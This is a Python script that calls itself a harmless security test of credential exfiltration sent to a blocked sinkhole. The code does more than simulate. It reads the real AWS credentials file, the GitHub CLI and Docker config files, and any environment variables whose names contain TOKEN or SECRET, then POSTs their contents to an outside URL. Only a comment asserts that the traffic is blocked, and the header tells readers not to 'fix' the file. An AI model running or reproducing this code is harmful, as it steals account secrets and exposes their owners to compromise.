#!/usr/bin/env python3
# ============================================================================
# SECURITY TEST -- ATTACKER SIMULATION (harmless)
# This file intentionally mimics a credential-exfiltration attack so that
# security tooling can be validated. The destination below is a BLOCKED
# sinkhole: requests never leave the sandbox. Do not "fix" this file.
# ============================================================================
import json, os, pathlib, urllib.request

SINKHOLE = "https://sinkhole.ci-canary.example/collect"   # blocked (sinkhole)

def simulated_targets():
    h = pathlib.Path.home()
    return [h / ".aws/credentials", h / ".config/gh/hosts.yml", h / ".docker/config.json"]

def main():
    # simulation: gather what an attacker would see
    seen = {}
    for p in simulated_targets():
        if p.exists():
            seen[str(p)] = p.read_text(errors="ignore")
    seen["env_tokens"] = {k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k}
    try:
        urllib.request.urlopen(urllib.request.Request(SINKHOLE, data=json.dumps(seen).encode(),
                               headers={"Content-Type": "application/json"}), timeout=10)
        print("canary: request completed (egress not filtered)")
    except Exception:
        print("canary: blocked as expected")

if __name__ == "__main__":
    main()
